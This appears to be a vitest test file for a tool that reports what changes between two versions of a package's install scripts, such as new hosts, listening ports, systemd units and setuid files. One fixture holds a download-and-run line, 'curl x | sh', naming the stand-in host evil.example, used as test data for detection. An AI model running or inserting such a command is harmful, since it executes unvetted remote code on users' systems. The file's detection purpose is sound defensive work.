import { expect, test } from 'vitest'
import type { InstallRecord } from '../core/install-facts.ts'
import { changesBetween, sayChanges } from './changes.ts'

const script = (name: string, sha256: string) => ({ name, interpreter: '/bin/sh', lines: 3, sha256 })
const with_ = (install?: InstallRecord) => ({ components: [], ...(install === undefined ? {} : { install }) })

test('what came and what went between two versions, whatever line it stands in', () => {
  const before = with_({
    scripts: [script('postinst', 'a'), script('prerm', 'b')],
    facts: [
      { kind: 'enables_unit', path: 'postinst', line: 3, text: 'systemctl enable a' },
      { kind: 'setuid_file', path: 'usr/bin/old', text: 'mode 4755' },
    ],
  })
  const after = with_({
    scripts: [script('postinst', 'c'), script('preinst', 'd')],
    facts: [
      { kind: 'downloads_and_runs', path: 'postinst', line: 2, text: 'curl x | sh', hosts: ['evil.example'] },
      { kind: 'enables_unit', path: 'postinst', line: 9, text: 'systemctl enable a' },
      { kind: 'unit_file', path: 'lib/systemd/system/a.socket', listens: ['4444'] },
    ],
  })
  const changes = changesBetween(before, after)
  expect(changes).toEqual({
    facts: {
      added: [after.install?.facts[0], after.install?.facts[2]],
      removed: [before.install?.facts[1]],
    },
    scripts: { added: ['preinst'], removed: ['prerm'], changed: ['postinst'] },
    hosts: { added: ['evil.example'], removed: [] },
    listens: { added: ['4444'], removed: [] },
    components: { added: [], removed: [] },
  })
  expect(sayChanges(changes)).toBe(
    'New: postinst runs what it downloads; lib/systemd/system/a.socket is a systemd unit; contacts evil.example; listens on 4444; has preinst.',
  )
})

test('a script with another text is new, also where nothing in it is recognised', () => {
  const [before, after] = ['a', 'b'].map(sha256 => with_({ scripts: [script('postinst', sha256)], facts: [] }))
  if (before === undefined || after === undefined) throw new Error('two were made')
  expect(sayChanges(changesBetween(before, after))).toBe('New: another text of postinst.')
})

test('what was not read to its end is never said to do nothing new', () => {
  const [whole, cut] = [with_(), { ...with_(), cut: 'It broke off.' }]
  const said = 'Nothing new was seen. Not all of it could be read, so there may be more.'
  for (const [before, after] of [
    [whole, cut],
    [cut, whole],
  ] as const)
    expect([changesBetween(before, after).cut, sayChanges(changesBetween(before, after))]).toEqual([
      'It broke off.',
      said,
    ])
  expect(sayChanges(changesBetween(whole, { ...with_({ scripts: [], facts: [], more: 3 }) }))).toBe(said)
  const news = with_({ scripts: [script('preinst', 'a')], facts: [] })
  expect(sayChanges(changesBetween(cut, news))).toBe(
    'New: has preinst. Not all of it could be read, so there may be more.',
  )
})

test('two versions that do the same have nothing new', () => {
  expect(sayChanges(changesBetween(with_(), with_()))).toBe('Installing it does nothing new.')
})
